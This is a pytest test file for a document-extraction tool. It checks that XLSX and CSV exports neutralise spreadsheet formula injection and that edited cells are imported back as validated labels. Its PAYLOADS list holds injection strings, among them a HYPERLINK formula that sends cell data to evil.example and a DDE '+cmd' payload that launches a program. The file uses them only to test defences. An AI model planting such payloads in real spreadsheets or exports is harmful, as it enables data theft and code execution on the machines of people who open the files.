"""Spreadsheet exports people can open safely, and their corrections back in as labels."""

from __future__ import annotations

import csv
import datetime as dt
import json
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from extractor.errors import ExportRefused
from extractor.extraction import runner
from extractor.store import Labels
from extractor.testing.fakeserver import FakeOpenAI
from extractor.views.spreadsheets import ExportConfig, ImportConfig, export, import_corrections

from .conftest import edit_xlsx, make_config, settings, write_docs

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A2,"click me")', "+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def _answer(**values: object) -> str:
    return f"[[answer:{json.dumps(values)}]]"


@pytest.fixture
def exported(tmp_path: Path, fake_server: FakeOpenAI) -> tuple[Path, ExportConfig]:
    write_docs(tmp_path / "in", {
        "ada.txt": "Ada " + _answer(applicant_name="Ada Lovelace", skills=["Python", "SQL"], seniority="senior",
                                    salary={"min": 80000, "max": 90000, "currency": "EUR", "period": "year"},
                                    available_from="2026-03-01", years_experience=7.5),
        "evil.txt": "Evil " + _answer(applicant_name=PAYLOADS[0], skills=PAYLOADS[1:], company=PAYLOADS[3],
                                      desired_role=PAYLOADS[4]),
        "bob.txt": "Bob " + _answer(applicant_name="Bob Stone", notice_period_days=30),
        "-dash.txt": "Dash " + _answer(applicant_name="Dee Ash"),
        "empty.txt": "",
    })
    config = make_config(tmp_path, fake_server)
    runner.run(config)
    export_config = ExportConfig(settings=settings(tmp_path / "out"))
    return export(export_config), export_config


def _sheet_rows(path: Path) -> tuple[list[str], dict[str, dict]]:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["results"]
    header = [c.value for c in sheet[1]]
    rows = {}
    for cells in sheet.iter_rows(min_row=2):
        rows[cells[0].value] = {h: c for h, c in zip(header, cells, strict=True)}
    return header, rows


def test_xlsx_is_typed_flat_and_formula_free(exported: tuple[Path, ExportConfig]) -> None:
    path, _ = exported
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == ["results", "summary"]
    assert workbook["results"].freeze_panes == "A2"
    header, rows = _sheet_rows(path)
    assert header[:7] == ["doc_id", "status", "needs_review", "review_flags", "grounded", "corrected", "applicant_name"]
    assert {"salary.min", "salary.max", "salary.currency", "salary.period"} <= set(header)
    ada = rows["ada.txt"]
    assert ada["skills"].value == "Python; SQL"
    assert ada["salary.min"].value == 80000 and ada["salary.min"].data_type == "n"
    assert ada["years_experience"].value == 7.5
    assert ada["available_from"].value == dt.datetime(2026, 3, 1) and ada["available_from"].is_date
    assert ada["seniority"].value == "senior"
    evil = rows["evil.txt"]
    assert evil["applicant_name"].value == PAYLOADS[0] and evil["applicant_name"].data_type == "s"
    assert evil["company"].value == PAYLOADS[3] and evil["company"].data_type == "s"
    assert rows["-dash.txt"]["doc_id"].data_type == "s"
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), "no cell may be a formula"
    summary = {r[0].value: r[1].value for r in workbook["summary"].iter_rows(min_row=2)}
    assert summary["documents"] == 5 and summary["ok"] == 4 and summary["skipped"] == 1
    assert summary["cost USD"] > 0


def test_csv_neutralizes_formula_triggers(exported: tuple[Path, ExportConfig]) -> None:
    _, config = exported
    path = export(ExportConfig(settings=config.settings, fmt="csv"))
    with path.open(newline="", encoding="utf-8-sig") as fh:
        rows = {r["doc_id"]: r for r in csv.DictReader(fh)}
    evil = rows["evil.txt"]
    assert evil["applicant_name"] == "'" + PAYLOADS[0]
    assert evil["company"] == "'" + PAYLOADS[3]
    assert evil["skills"].startswith("'+cmd")
    # A tab is a trigger too: here in a cell of its own, not inside a joined list.
    assert evil["desired_role"] == "'" + PAYLOADS[4]
    assert "'-dash.txt" in rows
    assert rows["ada.txt"]["salary.min"] == "80000.0" and rows["ada.txt"]["available_from"] == "2026-03-01"
    for row in rows.values():
        assert not any(v and v[0] in "=+-@\t\r" for v in row.values()), row


@pytest.mark.integration
@pytest.mark.skipif(shutil.which("soffice") is None and shutil.which("libreoffice") is None,
                    reason="LibreOffice is not installed (Debian package libreoffice-calc; .ci/run installs it)")
def test_libreoffice_reads_values_not_formulas(exported: tuple[Path, ExportConfig], tmp_path: Path) -> None:
    path, _ = exported
    office = shutil.which("soffice") or shutil.which("libreoffice")
    out = tmp_path / "lo"
    subprocess.run([office, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--convert-to",
                    "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", "--outdir",
                    str(out), str(path)], check=True, capture_output=True, timeout=180)
    converted = out / "results-results.csv"
    if not converted.exists():  # older LibreOffice: first sheet only, named after the file
        converted = out / "results.csv"
    with converted.open(newline="", encoding="utf-8") as fh:
        rows = {r["doc_id"]: r for r in csv.DictReader(fh)}
    evil = rows["evil.txt"]
    assert evil["applicant_name"] == PAYLOADS[0], "LibreOffice must show the text, not evaluate it"
    assert evil["company"] == "@SUM(1+1)"
    ada = rows["ada.txt"]
    assert ada["salary.min"] == "80000" and ada["years_experience"] == "7.5"
    assert ada["available_from"] == "2026-03-01"
    assert ada["skills"] == "Python; SQL"


def test_corrections_become_labels_and_show_in_the_next_export(exported: tuple[Path, ExportConfig]) -> None:
    path, config = exported
    edit_xlsx(path, {
        ("ada.txt", "applicant_name"): "Augusta Ada King",
        ("ada.txt", "salary.currency"): "usd",  # normalized by the schema's validator
        ("ada.txt", "skills"): "Python; SQL; Babbage engines",
        ("bob.txt", "seniority"): "Senior",
        ("bob.txt", "available_from"): "2026-02-30",  # no such day: rejected
        ("bob.txt", "notice_period_days"): "soon",  # not a number: rejected
        ("-dash.txt", "years_experience"): "=1+1",  # a formula typed by a person: rejected
    }, extra_row=["ghost.txt", "ok"])
    report = import_corrections(ImportConfig(settings=config.settings, file=path))
    assert sorted(report.applied) == [("ada.txt", "applicant_name"), ("ada.txt", "salary"), ("ada.txt", "skills"),
                                      ("bob.txt", "seniority")]
    assert report.unknown_docs == ["ghost.txt"]
    assert len(report.rejected) == 3
    assert any("bob.txt / available_from" in m and "day value is outside" in m for m in report.rejected)
    assert any("bob.txt / notice_period_days" in m and "valid integer" in m for m in report.rejected)
    assert any("-dash.txt / years_experience" in m and "formulas are not accepted" in m for m in report.rejected)
    assert report.exit_code == 1
    labels = Labels(config.settings.output_dir / "cover_letter" / "journal.sqlite3")
    try:
        stored = labels.latest()
    finally:
        labels.close()
    assert stored["ada.txt"]["salary"] == {"min": 80000.0, "max": 90000.0, "currency": "USD", "period": "year"}
    assert stored["ada.txt"]["skills"] == ["Python", "SQL", "Babbage engines"]
    assert stored["bob.txt"] == {"seniority": "senior"}
    # The rejected cells are edits that were not imported: the export keeps them unless told to drop them.
    with pytest.raises(ExportRefused, match=r"3 edited cell\(s\) that were not imported \(-dash.txt / "
                       r"years_experience, bob.txt / available_from, bob.txt / notice_period_days\): run "
                       r"`extractor import-corrections .*results.xlsx` first"):
        export(config)
    again = export(ExportConfig(settings=config.settings, overwrite=True))
    _, rows = _sheet_rows(again)
    assert rows["ada.txt"]["applicant_name"].value == "Augusta Ada King"
    assert rows["ada.txt"]["corrected"].value == "applicant_name; salary; skills"
    assert rows["evil.txt"]["corrected"].value is None
    unchanged = import_corrections(ImportConfig(settings=config.settings, file=again))
    assert unchanged.applied == [] and unchanged.rejected == [] and unchanged.rows_read == 5


@pytest.mark.integration
def test_csv_corrections_and_cli(exported: tuple[Path, ExportConfig], tmp_path: Path) -> None:
    _, config = exported
    path = export(ExportConfig(settings=config.settings, fmt="csv"))
    with path.open(newline="", encoding="utf-8-sig") as fh:
        reader = csv.DictReader(fh)
        rows = list(reader)
        header = reader.fieldnames or []
    for row in rows:
        if row["doc_id"] == "bob.txt":
            row["remote_preference"] = "fully remote"
        if row["doc_id"] == "evil.txt":
            row["seniority"] = "boss"
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    cli = subprocess.run(
        [sys.executable, "-m", "extractor", "import-corrections", str(path),
         "--output", str(config.settings.output_dir), "--schemas", str(config.settings.schemas_dir)],
        capture_output=True, text=True, timeout=60)
    assert cli.returncode == 1
    assert "stored  bob.txt / remote_preference" in cli.stdout
    assert "evil.txt / seniority" in cli.stderr and "'boss'" in cli.stderr
    assert "1 correction(s) stored" in cli.stdout


def test_summary_sheet_shows_agreement_when_measured(tmp_path: Path, fake_server: FakeOpenAI) -> None:
    write_docs(tmp_path / "in", {f"d{i}.txt": f"Letter {i} [[vary:seniority=senior|senior|mid]]" for i in range(2)})
    runner.run(make_config(tmp_path, fake_server, samples=3))
    path = export(ExportConfig(settings=settings(tmp_path / "out")))
    summary = {r[0].value: r[1].value for r in openpyxl.load_workbook(path)["summary"].iter_rows(min_row=2)}
    assert summary["sampled documents"] == 2
    assert summary["agreement seniority"] == pytest.approx(2 / 3, abs=1e-6)
    assert summary["agreement applicant_name"] == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_trigger_character_is_neutralized_in_csv(payload: str) -> None:
    import polars as pl

    from extractor.views.spreadsheets import neutralize_csv

    frame = neutralize_csv(pl.DataFrame({"cell": [payload, "plain text", "a=b"]}))
    assert frame["cell"].to_list() == ["'" + payload, "plain text", "a=b"]
